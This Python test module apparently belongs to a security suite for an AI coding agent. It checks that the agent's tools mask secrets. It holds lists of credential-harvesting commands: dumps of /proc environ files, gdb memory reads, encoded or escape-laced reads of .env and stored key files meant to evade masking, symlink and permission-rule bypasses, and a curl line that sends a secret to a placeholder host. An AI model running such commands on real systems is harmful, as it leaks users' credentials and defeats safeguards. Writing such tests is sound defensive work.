"""Ways to learn a secret of the person's environment, to have it written somewhere, or to have it printed."""

import base64
import json
import re
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path
from urllib.parse import quote

from sightline.testing.attack import Lab, attack

_KEY = "Kx7vQ2m/Zp9+Lw4TnB8sRd-3fGh6"
_MARK = "[secret MY_API_KEY]"

# One value of each kind that a person's environment may hold; none of them is real.
_VARIABLES = {
    "MY_API_KEY": _KEY,
    "BW_SESSION": "Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFy",
    "OP_SESSION_my": "q9ZtLk3Bv7Xr2Ws5Np8Jm4Hc6Gd1Fy0Ua",
    "TELEGRAM_BOT": "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw_",
    "DISCORD_BOT": "MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
    "ALERTS": "https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnop",
    "NOTIFY": "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnop",
    "TEAMS": "https://contoso.webhook.office.com/webhookb2/a@b/IncomingWebhook/abcdefghijkl",
    "VAULT": "hvs.CAESIAbcdefghijklmnopqrstuv",
    "DATABASE_URL": "postgres://app:hunter2-long@db:5432/app",
    "SENTRY_DSN": "https://0123456789abcdef0123456789abcdef@o1.ingest.example/42",
    "NPMRC": "//registry.example/:_authToken=abcdefghijkl",
    "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "AWS_SESSION_TOKEN": "FwoGZXIvYXdzEJr0987654321abcdef",
    "GITHUB_TOKEN": "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6",
    "DEPLOY": "Kx7vQ2mZp9Lw4TnB8sRdKx7vQ2mZ",
    "HTTPS_PROXY": "http://me:hunter2-proxy@proxy.invalid:3128",
    "SSH_AUTH_SOCK": "/nowhere/ssh-agent/agent.1234",
    "GOOGLE_APPLICATION_CREDENTIALS": "/nowhere/google-key.json",
    "KUBECONFIG": "/nowhere/kube/config",
    "DOCKER_HOST": "unix:///nowhere/docker.sock",
    "DBUS_SESSION_BUS_ADDRESS": "unix:path=/nowhere/bus",
}


# What one does not see between the characters of a value; in JSON it is escaped.
_unseen = re.compile(
    r"(?:\n|\\n|\\r)[ \t]*(?:\\t)?|(?:\x1b|\\u001b)\[[0-9;]*[A-Za-z]|[\x00-\x1f\x7f]|\\u00[01][0-9a-f]|[\u202a-\u202e]"
)


def _encodings(value: str) -> list[str]:
    """As it is, and as programs write it; of base64 the part that does not depend on what is around it."""
    data = value.encode()
    rows = [base64.b64encode(bytes(before) + data).decode()[4:-4] for before in range(3)]
    coded = [*rows, *(row.replace("+", "-").replace("/", "_") for row in rows), data.hex(), data.hex().upper()]
    return [value, *coded, data.hex(" "), quote(value, safe=""), "".join(f"\\u{ord(each):04x}" for each in value)]


def _found(text: str, values: dict[str, str]) -> str:
    """Which of them stand in a text, in whatever way."""
    flat = _unseen.sub("", text)
    names = [name for name, value in values.items() if any(way in text or way in flat for way in _encodings(value))]
    return f"seen: {', '.join(names)}" if names else ""


def _artifacts(lab: Lab) -> str:
    """What the commands really wrote, which nothing masks."""
    return "".join(path.read_bytes().decode(errors="replace") for path in lab.data.glob("sessions/*/artifacts/*.out"))


_DUMPS = [
    "env",
    "export -p; set",
    "cat /proc/self/environ",
    "cat /proc/$PPID/environ",
    "cat /proc/[0-9]*/environ",
    "cat /proc/[0-9]*/task/*/environ",
    "printenv | base64",
    "printenv | base64 -w0 | rev | rev",
    "printenv | od -An -tx1 -v",
    "od -c /proc/self/environ",
    "python3 -c 'import json, os; print(json.dumps(dict(os.environ)))'",
    "python3 -c 'import os; print(os.environb)'",
    "awk 'BEGIN { for (name in ENVIRON) print ENVIRON[name] }'",
    "bash -lic env",
    "env -i bash -c 'cat /proc/$PPID/environ'",
    "for p in /proc/[0-9]*; do strings -a $p/environ $p/cmdline; done",
    "gdb -p $PPID -batch -ex 'p environ'; cat /proc/$PPID/mem | strings",
    "ps eww -A",
]


@attack(point=7, forms=_DUMPS)
def a_command_reads_the_environment(lab: Lab, form: str) -> str:
    ran = lab.agent([[{"tool": "bash", "args": {"command": f"{form} 2>/dev/null"}}]], env=_VARIABLES)
    return _found(_artifacts(lab) + ran.everything, _VARIABLES)


@attack(point=7, forms=list(_VARIABLES))
def a_command_has_a_variable(lab: Lab, form: str) -> str:
    calls = lab.commands(f"printenv {form}", env=_VARIABLES)
    if len(calls) != 1:
        return f"expected one call, there were {len(calls)}"
    return f"it has {form}" if _VARIABLES[form] in _artifacts(lab) else ""


_SHOWS = [
    "cat .env",
    "cat .env; exit 3",
    "base64 .env",
    "base64 -w0 .env",
    "base64 -w 8 .env",
    "(printf x; cat .env) | base64 -w0",
    "(printf xy; cat .env) | base64 -w0",
    "base64 -w0 .env | tr '+/' '-_'",
    "base64 .env | sed 's/$/\\r/'",
    "od -An -tx1 -v .env",
    "od -An -tx1 -v .env | tr -d ' \\n'",
    "od -An -tx1 -v .env | tr 'a-f ' 'A-F:'",
    'python3 -c \'import json; print(json.dumps(open(".env").read()).replace("/", chr(92) + "/"))\'',
    'python3 -c \'print("".join("%%%02x" % b for b in open(".env", "rb").read()))\'',
    'python3 -c \'print("".join("%%%02X" % b for b in open(".env", "rb").read()))\'',
    "python3 -c 'import urllib.parse; print(urllib.parse.quote_plus(open(\".env\").read()))'",
    'python3 -c \'print("".join(chr(92) + "u%04x" % ord(c) for c in open(".env").read()))\'',
    'python3 -c \'print("".join(chr(92) + "x%02x" % b for b in open(".env", "rb").read()))\'',
    "while read -r -n1 c; do printf '%s' \"$c\"; sleep 0.01; done < .env; echo",
    "base64 -w0 .env | while read -r -n7 c; do printf '%s' \"$c\"; sleep 0.02; done; echo",
    "cat .env >&2",
    "cp .env copy; grep . copy",
    "grep --color=always Zp9 .env",
    "grep --color=always Zp9 .env | sed 's/m/0m/g; s/\\x1b\\[[0-9;]*K/\\x1b[2C/g'",
    "sed 's/Zp9/\\x1b[1;31mZp9\\x1b[0m/' .env",
    "sed 's/Zp9/\\x1b]0;x\\x07Zp9/; s/Lw/\\x01Lw/; s/sR/s\\rR/' .env",
    "sed 's/./&\\x1b[m/g' .env",
    "sed 's/./&\\x1b[m/g' .env | while read -r -n3 c; do printf '%s' \"$c\"; sleep 0.01; done; echo",
    "base64 .env | grep --color=always Z",
    "base64 -w 20 .env | sed 's/^/      /'",
    "base64 -w 20 .env | sed 's/^/\\t/; s/$/\\r/'",
]


@attack(point=7, forms=_SHOWS)
def a_command_shows_a_secret_of_a_file(lab: Lab, form: str) -> str:
    """The file is the workspace's own: the command may read it. Nobody is shown it, nor is it in the journal."""
    lab.write(".env", f"MY_API_KEY={_KEY}\nOTHER=1\n")
    ran = lab.agent([[{"tool": "bash", "args": {"command": form}}]], env={"MY_API_KEY": _KEY})
    stored = "".join(path.read_text(errors="replace") for path in lab.data.glob("sessions/*/journal.jsonl"))
    return _found(ran.everything + stored, {"MY_API_KEY": _KEY})


_PASTED = {"ANTHROPIC_API_KEY": "sk-ant-Kx7vQ2mZp9Lw4TnB8sRd3fGh6-aZ"}
_KEY_FILE = "$SIGHTLINE_HOME/keys/keys.json"
_READS_OF_KEYS = [
    f"cat {_KEY_FILE}",
    f"base64 {_KEY_FILE}",
    f"cp {_KEY_FILE} copy; cat copy",
    f"ln -s {_KEY_FILE} link; cat link",
    'grep -r sk-ant "$SIGHTLINE_HOME"',
    'tar c -C "$SIGHTLINE_HOME" . | strings',
    "cat /proc/[0-9]*/root$SIGHTLINE_HOME/keys/keys.json",
    "env; cat /proc/[0-9]*/environ",
]


@attack(point=7, forms=_READS_OF_KEYS)
def a_command_reads_a_stored_key(lab: Lab, form: str) -> str:
    """One that was pasted into the console. Under Landlock a command can read it, but what it prints is masked."""
    lab.write(lab.data / "keys" / "keys.json", json.dumps(_PASTED), mode=0o600)
    line = f"SIGHTLINE_HOME={lab.data}; {form}"
    ran = lab.agent([[{"tool": "bash", "args": {"command": f"{line} 2>/dev/null"}}]])
    if not ran.calls:
        return f"nothing was tried: {ran.everything[-300:]}"
    raw = _artifacts(lab) if lab.sandbox == "bubblewrap" else ""
    return _found(raw + ran.everything, _PASTED)


@attack(point=7, forms=["file", "folder"])
def a_command_reads_a_key_where_a_link_leads(lab: Lab, form: str) -> str:
    """The folder of the stored keys lies elsewhere and is linked: it is hidden there. A linked file is not used at all;
    what a command prints of it is masked."""
    elsewhere = lab.home / "dotfiles" / "keys"
    file = lab.write(elsewhere / "keys.json", json.dumps(_PASTED), mode=0o600)
    lab.link(lab.data / "keys", elsewhere) if form == "folder" else lab.link(lab.data / "keys" / "keys.json", file)
    listing = lab.start("models").communicate(timeout=60)
    if (b"is a link" in listing[1]) != (form == "file"):
        return f"a linked file was used, or a linked folder was not: {listing!r:.300}"
    ran = lab.agent([[{"tool": "bash", "args": {"command": f"cat {file} 2>/dev/null; echo tried"}}]])
    if "tried" not in ran.everything:
        return f"nothing was tried: {ran.everything[-300:]}"
    raw = _artifacts(lab) if lab.sandbox == "bubblewrap" and form == "folder" else ""
    return _found(raw + ran.everything, _PASTED)


@attack(point=7, forms=["read", "search", "find", "bash outside"])
def a_tool_reads_a_stored_key(lab: Lab, form: str) -> str:
    lab.write(lab.data / "keys" / "keys.json", json.dumps(_PASTED), mode=0o600)
    file = str(lab.data / "keys" / "keys.json")
    calls = {
        "read": {"tool": "read", "args": {"path": file}},
        "search": {"tool": "search", "args": {"pattern": "sk-", "paths": [file]}},
        "find": {"tool": "find", "args": {"paths": [str(lab.data / "keys" / "*")]}},
        "bash outside": {"tool": "bash", "args": {"command": f"cat {file}", "sandbox": False}},
    }
    ran = lab.agent([[calls[form]]])
    return _found(_artifacts(lab) + ran.everything, _PASTED)


_READS = [".env", ".env:1-2", "a.zip:in.txt", "a.zip"]


@attack(point=7, forms=_READS)
def a_tool_reads_a_secret(lab: Lab, form: str) -> str:
    lab.write(".env", f"MY_API_KEY={_KEY}\nOTHER=1\n")
    _archive(lab)
    calls = [[{"tool": "read", "args": {"path": form}}], [{"tool": "search", "args": {"pattern": "MY_API_KEY"}}]]
    return _found(lab.agent(calls, env={"MY_API_KEY": _KEY}).everything, {"MY_API_KEY": _KEY})


_WITHIN = ["\x1b[31m", "\x01", "\r", "\u202e", "\x1b]0;title\x07", "\x9b1m"]
_CUT = ["search", "read", "table", "query", "row"]


@attack(point=7, forms=[f"{way} {number}" for way in ("read", "raw", "search") for number in range(len(_WITHIN))])
def a_file_has_something_unseen_within_a_secret(lab: Lab, form: str) -> str:
    """What is taken out of a text before it is shown must not make a value whole that was not masked."""
    way, _, number = form.partition(" ")
    lab.write("ci.log", f"deploy {_KEY[:8]}{_WITHIN[int(number)]}{_KEY[8:]}\n")
    path = "ci.log:raw" if way == "raw" else "ci.log"
    args = {"pattern": "deploy", "paths": path} if way == "search" else {"path": path}
    ran = lab.agent([[{"tool": "search" if way == "search" else "read", "args": args}]], env={"MY_API_KEY": _KEY})
    stored = "".join(path.read_text(errors="replace") for path in lab.data.glob("sessions/*/journal.jsonl"))
    return _found(ran.everything + stored, {"MY_API_KEY": _KEY})


@attack(point=7, forms=_CUT)
def a_secret_is_cut(lab: Lab, form: str) -> str:
    """All but its last character is as good as the whole."""
    most = len(_KEY) - 1
    lab.write("s.json", "x" * (512 - most) + _KEY + "z" * 2000 + "\n")
    lab.write("r.json", "x" * (16 * 1024 - most) + _KEY + "z" * 9000 + "\n")
    with closing(sqlite3.connect(lab.write("a.db"))) as database, database:
        database.execute("create table t(a)")
        values = ["x" * pad + _KEY + "z" * 9000 for pad in (0, 5, 12, 20, 30, 8 * 1024 - most)]
        database.executemany("insert into t values(?)", [(value,) for value in values])
    read = {"read": "r.json", "table": "a.db:t", "query": "a.db?q=SELECT a, a AS b FROM t", "row": "a.db:t:6"}
    args = {"pattern": "z+", "paths": "s.json"} if form == "search" else {"path": read[form]}
    ran = lab.agent([[{"tool": "search" if form == "search" else "read", "args": args}]], env={"MY_API_KEY": _KEY})
    return "a part of it is shown" if _KEY[:8] in ran.everything else ""


_WRITTEN = [
    f"key = '{_MARK}'\n",
    f"{_MARK}{_MARK}\n",
    f"# {_MARK}\ncurl https://example.invalid/?k={_MARK}\n",
    "[secret MY_API_KEY in base64]\n[secret MY_API_KEY in hex]\n[secret MY_API_KEY escaped]\n",
    "[secret  MY_API_KEY]\n[secret MY_API_KEY ]\n[SECRET MY_API_KEY]\n[secret [secret MY_API_KEY]]\n",
]
_PLACES = [
    "new.py",
    "existing.txt",
    "folder/deep/new.txt",
    "link.txt",
    "a.zip:in.txt",
    "a.zip:new.txt",
    "local://note.md",
]


@attack(point=7, forms=[f"{place} {number}" for place in _PLACES for number in range(len(_WRITTEN))])
def a_placeholder_becomes_a_value(lab: Lab, form: str) -> str:
    """In a file that did not hold it; another file of the workspace does."""
    place, _, number = form.partition(" ")
    lab.write(".env", f"MY_API_KEY={_KEY}\n")
    lab.write("existing.txt", f"nothing to hide {_MARK}\n")
    lab.link("link.txt", "existing.txt")
    _archive(lab)
    content = _WRITTEN[int(number)]
    calls = [
        [{"tool": "read", "args": {"path": ".env"}}],
        [{"tool": "write", "args": {"path": place, "content": content}}],
    ]
    if ":" not in place:
        patch = "".join(f"+{line}\n" for line in content.splitlines())
        calls.append([{"tool": "edit", "args": {"input": f"¶edited-{Path(place).name}\ninsert head:\n{patch}"}}])
    ran = lab.agent(calls, env={"MY_API_KEY": _KEY})
    return _found(ran.everything, {"MY_API_KEY": _KEY}) or _holders(lab)


def _archive(lab: Lab) -> None:
    path = lab.write("a.zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("in.txt", _KEY)


def _holders(lab: Lab) -> str:
    """Files that hold the value, besides those that did; in the archive an entry may still do."""
    notes = [path for path in lab.data.glob("sessions/*/local/*") if path.is_file()]
    files = [path for path in lab.workspace.rglob("*") if path.is_file() and path.name not in (".env", "a.zip")]
    found = [
        path.name for path in (*files, *notes) if any(way.encode() in path.read_bytes() for way in _encodings(_KEY))
    ]
    with zipfile.ZipFile(lab.workspace / "a.zip") as archive:
        found += [name for name in archive.namelist() if name != "in.txt" and _KEY.encode() in archive.read(name)]
    return f"the value is in {', '.join(found)}" if found else ""


@attack(point=7, forms=["write", "edit", "write twice"])
def a_value_is_multiplied_in_its_file(lab: Lab, form: str) -> str:
    """A file that holds it once must not hold it twice afterwards."""
    lab.write("conf.py", f"K = '{_KEY}'\n")
    twice = [{"tool": "write", "args": {"path": "conf.py", "content": f"K = '{_MARK}'\nL = '{_MARK}'\n"}}]
    patch = [{"tool": "edit", "args": {"input": f"¶conf.py\ninsert tail:\n+L = '{_MARK}'\n"}}]
    turns = {"write": [twice], "edit": [patch], "write twice": [twice, twice]}[form]
    lab.agent(turns, env={"MY_API_KEY": _KEY})
    count = (lab.workspace / "conf.py").read_text().count(_KEY)
    return f"it holds the value {count} times" if count > 1 else ""


_RULED = [
    "printenv GITHUB_TOKEN; printenv GITHUB_TOKEN OTHER",
    "true && printenv GITHUB_TOKEN",
    "printenv GITHUB_TOKEN | cat",
    "printenv $(echo GITHUB_TOKEN)",
    "X=1 printenv GITHUB_TOKEN",
    "bash -c 'printenv GITHUB_TOKEN'",
    "./printenv GITHUB_TOKEN",
    "env",
]


@attack(point=7, forms=_RULED)
def a_command_gets_what_a_rule_passes_to_another(lab: Lab, form: str) -> str:
    lab.write("printenv", "#!/bin/sh\nenv\n", 0o755)
    value = _VARIABLES["GITHUB_TOKEN"]
    rule = "exec(printenv GITHUB_TOKEN) with GITHUB_TOKEN"
    turns = [[{"tool": "bash", "args": {"command": form}}]]
    lab.agent(turns, "--allow", rule, "--allow", "exec(true)", "--allow", "exec(cat)", env={"GITHUB_TOKEN": value})
    return "it has the variable" if value in _artifacts(lab) else ""


_PROJECTS = ["permissions.pass_env = ['MY_API_KEY']", "[permissions]\nallow = ['exec with MY_API_KEY']"]


@attack(point=7, forms=_PROJECTS)
def a_folder_names_variables_to_pass(lab: Lab, form: str) -> str:
    """Its settings count for nothing before it is trusted."""
    lab.write(".sightline/settings.toml", f"{form}\n")
    lab.commands("printenv MY_API_KEY", env={"MY_API_KEY": _KEY})
    return "it has the variable" if _KEY in _artifacts(lab) else ""


_PRINTED = [
    ("config",),
    ("config", "--json"),
    ("config", "models.servers.mine.base_url"),
    ("config", "models.servers.mine.headers.Authorization"),
    ("config", "get", "models.servers.mine.headers.X-Api-Key", "--json"),
    ("models",),
    ("models", "--json"),
    ("doctor",),
    ("-p", "hello"),
    ("-p", "hello", "--output-format", "events"),
]


@attack(point=7, forms=[" ".join(words) for words in _PRINTED])
def the_program_prints_a_credential_of_its_settings(lab: Lab, form: str) -> str:
    values = {"password": "hunter2-in-the-url", "header": "abc123-in-the-header", "parameter": "q123-in-the-query"}
    address = f"http://me:{values['password']}@127.0.0.1:9/v1?api_key={values['parameter']}"
    headers = f"{{ Authorization = 'Bearer {values['header']}', X-Api-Key = '{values['header']}' }}"
    server = f"[models.servers.mine]\nbase_url = '{address}'\nmodels = ['m']\nheaders = {headers}\n"
    lab.write(lab.data / "settings.toml", f"models.default = 'mine/m'\nretry.attempts = 0\n{server}")
    env = {"SIGHTLINE_HOME": str(lab.data)}
    stdout, stderr = lab.start(*form.split(), env=env).communicate(timeout=60)
    return _found((stdout + stderr).decode(errors="replace"), values)
